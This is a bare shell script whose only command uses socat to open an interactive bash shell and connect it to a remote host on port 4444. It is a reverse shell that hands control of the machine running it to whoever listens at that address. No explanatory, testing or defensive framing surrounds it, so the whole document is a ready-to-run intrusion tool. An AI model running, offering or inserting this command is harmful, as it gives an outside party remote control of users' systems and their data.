#!/bin/sh
socat exec:'bash -li',pty,stderr,setsid tcp:198.51.100.4:4444
